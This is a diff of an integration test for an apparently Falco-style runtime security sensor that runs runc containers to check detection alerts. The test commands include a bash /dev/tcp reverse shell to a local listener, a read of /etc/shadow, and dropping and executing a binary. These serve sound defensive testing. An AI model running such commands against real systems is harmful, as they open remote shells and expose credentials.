@@ -10,6 +10,7 @@ import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'nod
 import { randomBytes } from 'node:crypto';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { createServer, type AddressInfo, type Server } from 'node:net';
 import { after, before, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import type { SyscallEvent } from '../../src/runtime/event.js';
@@ -31,7 +32,34 @@ let sensor: Sensor | undefined;
 const tmp = mkdtempSync(join(tmpdir(), 'bulwark-sensor-runc-'));
 const rootfs = join(tmp, 'bundle', 'rootfs');
 let mounted = false;
-const id = randomBytes(32).toString('hex');
+const ids: string[] = [];
+let specJson = '';
+
+interface Spec {
+  process: { terminal: boolean; args: string[] };
+  root: { path: string; readonly: boolean };
+  linux: { namespaces: { type: string }[] };
+}
+
+/** runs a container to its end with these args; resolves with its container.id (12 hex) */
+async function runContainer(args: string[], hostNetwork = false): Promise<string> {
+  const cfg = JSON.parse(specJson) as Spec;
+  cfg.process.terminal = false;
+  cfg.process.args = args;
+  cfg.root = { path: 'rootfs', readonly: false };
+  if (hostNetwork) cfg.linux.namespaces = cfg.linux.namespaces.filter((n) => n.type !== 'network');
+  writeFileSync(join(tmp, 'bundle', 'config.json'), JSON.stringify(cfg));
+  const id = randomBytes(32).toString('hex');
+  ids.push(id);
+  await new Promise<void>((resolve, reject) => {
+    const c = spawn('runc', ['run', '--bundle', join(tmp, 'bundle'), id], {
+      stdio: ['ignore', 'ignore', 'inherit'],
+    });
+    c.once('error', reject);
+    c.once('exit', (code) => (code === 0 ? resolve() : reject(new Error(`runc run exited ${code}`))));
+  });
+  return id.slice(0, 12);
+}
 
 describe('live sensor on a runc container', { timeout: 120_000 }, () => {
   before(async () => {
@@ -49,19 +77,7 @@ describe('live sensor on a runc container', { timeout: 120_000 }, () => {
     ]);
     mounted = true;
     execFileSync('runc', ['spec'], { cwd: join(tmp, 'bundle') });
-    const cfgPath = join(tmp, 'bundle', 'config.json');
-    const cfg = JSON.parse(readFileSync(cfgPath, 'utf8')) as {
-      process: { terminal: boolean; args: string[] };
-      root: { path: string; readonly: boolean };
-    };
-    cfg.process.terminal = false;
-    cfg.process.args = [
-      '/bin/sh',
-      '-c',
-      'cat /etc/shadow >/dev/null; cat /etc/hostname >/dev/null; cp /bin/true /tmp/dropped; /tmp/dropped; /bin/true; sleep 0.3',
-    ];
-    cfg.root = { path: 'rootfs', readonly: false };
-    writeFileSync(cfgPath, JSON.stringify(cfg));
+    specJson = readFileSync(join(tmp, 'bundle', 'config.json'), 'utf8');
     sensor = new Sensor({
       state,
       onEvent: (ev) => {
@@ -74,10 +90,12 @@ describe('live sensor on a runc container', { timeout: 120_000 }, () => {
     await sensor.start();
   });
   after(async () => {
-    try {
-      execFileSync('runc', ['delete', '-f', id], { stdio: 'ignore' });
-    } catch {
-      /* already gone (runc run removes it on exit) */
+    for (const id of ids) {
+      try {
+        execFileSync('runc', ['delete', '-f', id], { stdio: 'ignore' });
+      } catch {
+        /* already gone (runc run removes it on exit) */
+      }
     }
     await sensor?.stop();
     if (mounted) execFileSync('umount', [rootfs]);
@@ -85,14 +103,11 @@ describe('live sensor on a runc container', { timeout: 120_000 }, () => {
   });
 
   it("fires 'Read sensitive file untrusted' and 'Drop and execute new binary in container' with the container id", async () => {
-    await new Promise<void>((resolve, reject) => {
-      const c = spawn('runc', ['run', '--bundle', join(tmp, 'bundle'), id], {
-        stdio: ['ignore', 'ignore', 'inherit'],
-      });
-      c.once('error', reject);
-      c.once('exit', (code) => (code === 0 ? resolve() : reject(new Error(`runc run exited ${code}`))));
-    });
-    const cid = id.slice(0, 12);
+    const cid = await runContainer([
+      '/bin/sh',
+      '-c',
+      'cat /etc/shadow >/dev/null; cat /etc/hostname >/dev/null; cp /bin/true /tmp/dropped; /tmp/dropped; /bin/true; sleep 0.3',
+    ]);
     const end = Date.now() + 5000;
     const inContainer = () => execs.filter((e) => e.containerId === cid);
     while (Date.now() < end && inContainer().filter((e) => e.ev.params.comm === 'cat').length < 2)
@@ -123,5 +138,44 @@ describe('live sensor on a runc container', { timeout: 120_000 }, () => {
     const flagsOf = (comm: string) => inContainer().find((e) => e.ev.params.comm === comm)?.ev.params.flags;
     assert.equal(flagsOf('dropped'), PPM_EXE_UPPER_LAYER);
     assert.equal(flagsOf('true'), PPM_EXE_LOWER_LAYER);
+  });
+
+  it("fires 'Redirect STDOUT/STDIN to Network Connection in Container' for a bash reverse shell, not for a redirect to a file", async () => {
+    let got = '';
+    const server: Server = createServer((sock) => {
+      sock.setEncoding('utf8');
+      sock.on('data', (d: string) => (got += d));
+      sock.on('error', () => {});
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    const port = (server.address() as AddressInfo).port;
+    try {
+      const cid = await runContainer(
+        [
+          '/bin/bash',
+          '-c',
+          `exec 3<>/dev/tcp/127.0.0.1/${port}; exec 0<&3 1>&3; echo reverse-shell-ok; exec 1>/dev/null; echo quiet; sleep 0.3`,
+        ],
+        true,
+      );
+      const end = Date.now() + 5000;
+      const mine = () => alerts.filter((a) => a.containerId === cid);
+      while (Date.now() < end && (mine().length < 2 || !got.includes('reverse-shell-ok')))
+        await new Promise((r) => setTimeout(r, 50));
+      assert.ok(got.includes('reverse-shell-ok'), 'the shell really wrote to the socket');
+      const fired = mine().map((a) => a.alert);
+      assert.deepEqual(
+        fired.map((a) => [a.rule, a.output_fields['evt.type'], a.output_fields['fd.rport']]),
+        [
+          ['Redirect STDOUT/STDIN to Network Connection in Container', 'dup2', port],
+          ['Redirect STDOUT/STDIN to Network Connection in Container', 'dup2', port],
+        ],
+        fired.map((a) => a.output).join('\n'),
+      );
+      assert.equal(fired[0]!.output_fields['proc.name'], 'bash');
+      assert.equal(fired[0]!.output_fields['fd.type'], 'ipv4');
+    } finally {
+      server.close();
+    }
   });
 });
